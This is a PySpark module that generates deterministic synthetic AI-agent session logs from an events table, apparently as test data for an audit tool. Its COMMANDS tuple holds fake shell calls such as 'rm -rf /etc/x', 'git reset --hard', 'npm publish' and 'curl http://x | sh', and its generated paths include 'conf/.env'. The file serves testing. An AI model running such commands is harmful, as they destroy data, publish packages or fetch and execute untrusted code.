"""A deterministic session log from the star schema's ``events``.

Each event becomes a few records of its user's session; ``record_index`` is ten times the event's id plus
the record's place. The same mapping stands as SQL in ``oracle`` for comparison.
"""

from __future__ import annotations

from functools import reduce

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from auditloom.schemas import RECORDS

CWD = "/w"
#: Tool of an event type; command of a shell call by the event's number modulo 6.
TOOLS = {"view": "read", "click": "edit", "purchase": "write", "error": "bash", "signup": "web_fetch"}
COMMANDS = ("ls -la", "rm -rf build", "rm -rf /etc/x", "git reset --hard", "npm publish", "curl http://x | sh")


def _case(key: str, values: dict) -> str:
    """SQL that maps a key's values."""
    return f"case {key} " + " ".join(f"when {k!r} then {v!r}" for k, v in values.items()) + " end"


def events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Events with a number k, their turn (day) and step (hour), their tool and call id."""
    raw = spark.read.parquet(f"{sf_dir}/events.parquet").selectExpr("*", "cast(ts as timestamp) as at", f"{_case('event_type', TOOLS)} as tool")
    return raw.selectExpr(
        "cast(user_id as string) as session_key", "event_id as id", "unix_millis(at) as time", "event_type", "coalesce(cast(get_json_object(props, '$.k') as bigint), 0L) as k",
        "cast(year(at) * 10000 + month(at) * 100 + day(at) as bigint) as turn", "cast(hour(at) as bigint) as step", "tool", "if(event_id % 23 = 0, 'dup', concat('c', event_id)) as call_id",
    )


def records(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Typed records of all sessions.

    Each type is a branch of a union with its type as a constant: what asks for some types reads only
    their branches, as the optimizer drops the others. Branches are SQL text, as many small column objects
    would take longer to make than their query to run.
    """
    e = events(spark, sf_dir)
    path = "case when k % 25 = 0 then 'conf/.env' when k % 20 = 0 then '/etc/app.conf' else concat('src/f', k, '.txt') end"
    args = f"""case tool when 'write' then map('file_path', {path}, 'content', concat('v', k)) when 'edit' then map('file_path', {path}, 'old_string', 'a', 'new_string', concat('n', k))
        when 'read' then map('file_path', {path}) when 'bash' then map('command', {_case("cast(k % 6 as int)", dict(enumerate(COMMANDS)))}) else map('url', concat('http://h/', k)) end"""
    usage = "if(id % 29 <> 0, named_struct('input_tokens', k + 1, 'output_tokens', k * 2, 'cache_read_tokens', id % 100, 'reasoning_tokens', k % 7), null)"

    def part(rows: DataFrame, place: int, kind: str, test: str | None = None, **values: str) -> DataFrame:
        index = f"(id * 10 + {place})"
        given = {"session_key": "session_key", "record_index": index, "frame_index": index, "frame_start": f"{index} * 100", "valid": "true", "type": f"'{kind}'", "seq": index, "time": "time"} | values
        return (rows.filter(test) if test else rows).selectExpr(*[f"cast({given.get(f.name, 'null')} as {f.dataType.simpleString()}) as {f.name}" for f in RECORDS.fields])

    def edge(f: str, *keys: str) -> DataFrame:
        """The first or last event of each turn or step."""
        return e.groupBy("session_key", *keys).agg(F.expr(f"{f}(struct(id, time, k, turn, step)) as one")).selectExpr("session_key", "one.*")

    turn, where, late = {"turn": "turn"}, {"turn": "turn", "step": "step"}, "time + id % 50 + 1"
    # A header before a session's first event; a second one for some, from its 20th event on.
    heads = e.selectExpr("*", "row_number() over (partition by session_key order by id) as n").filter("n = 1 or (n = 20 and cast(session_key as int) % 5 = 0)")
    parts = [
        part(heads, -1, "session", seq="null", time="0", session_id="concat('session-', session_key)", created_at="time", cwd=f"if(n = 1, '{CWD}', '/w/src')", agent_preset="concat('p', cast(session_key as int) % 3)"),
        part(edge("min", "turn"), 0, "turn/start", **turn),
        part(edge("min", "turn", "step"), 1, "step/start", **where),
        part(e, 2, "tool/call", call_id="call_id", name="tool", raw_arguments="concat(tool, '#', k)", arguments_state="if(id % 53 = 0, 'invalid', 'ok')", args=args, args_json="'{}'", replace_all="k % 2 = 0", detail="tool", **where),
        part(e, 3, "tool/result", "id % 7 <> 0", call_id="call_id", is_error="id % 11 = 0", text="concat('out ', k)", time=late),
        part(e, 4, "tool/result", "id % 13 = 0", call_id="call_id", is_error="id % 2 = 0", text="'again'", time=f"{late} + 5"),
        part(e, 5, "tool/result", "id % 17 = 0", call_id="concat('x', id)", is_error="false", text="'?'", time=late),
        part(e, 6, "assistant/message", message_id="concat('m', k % 50)", model="concat('model-', id % 3)", usage=usage, texts="array(named_struct('pos', 0, 'text', concat('t', k)))", **where),
        part(edge("max", "turn", "step"), 7, "step/end", **where),
        part(edge("max", "turn"), 8, "turn/end", end_reason="case when id % 31 = 0 then null when id % 5 = 0 then 'aborted' else 'completed' end", **turn),
        part(e, 9, "command/run", "id % 41 = 0", name="'permission'", detail="concat('permission preset changed to p', k)", data="""concat('{"args":"p', k, '"}')"""),
        part(e, 9, "approval/asked", "id % 37 = 0 and id % 41 <> 0", detail="concat('approval requested for ', tool)", data="'{}'", **turn),
        part(e, 9, "approval/decided", "id % 43 = 0 and id % 41 <> 0 and id % 37 <> 0", outcome="if(k % 2 = 0, 'denied-by-user', 'approved')", data="'{}'"),
        part(e, 9, "user/message", "id % 3 = 0 and id % 41 <> 0 and id % 37 <> 0 and id % 43 <> 0", text="concat('say ', k)"),
    ]
    return reduce(DataFrame.union, parts)
